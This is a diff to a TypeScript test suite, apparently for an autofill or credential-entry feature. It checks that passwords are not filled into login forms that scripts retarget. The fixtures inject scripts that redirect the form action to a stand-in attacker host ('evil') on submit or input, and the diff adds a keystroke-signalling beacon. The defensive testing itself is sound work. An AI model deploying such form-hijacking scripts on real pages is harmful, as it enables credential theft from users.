@@ -74,7 +74,10 @@ const pages: Parameters<typeof openStage>[0] = {
       "</form>",
       `</form><script>f.addEventListener("submit", () => { f.method = "get"; f.action = "${evil}/take"; })</script>`,
     ),
-    "/turns-on-input": loginPage().replace("</form>", `</form><script>f.user.addEventListener("input", () => { f.action = "${evil}/take"; })</script>`),
+    "/turns-on-input": loginPage().replace(
+      "</form>",
+      `</form><script>f.user.addEventListener("input", () => { f.action = "${evil}/take"; }); f.pass.addEventListener("input", () => { new Image().src = "/typed"; })</script>`,
+    ),
     "/other-node": swapping("f.pass.replaceWith(f.pass.cloneNode());"),
     "/other-form": swapping("g.append(f.pass);"),
     "/go": async () => {
@@ -237,7 +240,8 @@ describe("a login where its entry does not belong", () => {
       );
       expect([code, sent]).toEqual(["cred.action", []]);
       expect(message).not.toContain(canaries.password);
-      // What was filled in does not stay.
+      // Where the form was changed while its name was typed, the password was not typed any more.
+      expect(stage.asked("app.test").filter((line) => line === "GET /typed")).toEqual([]);
       expect(stage.served.hits.get("evil.test") ?? 0).toBe(hitsBefore);
     },
   );
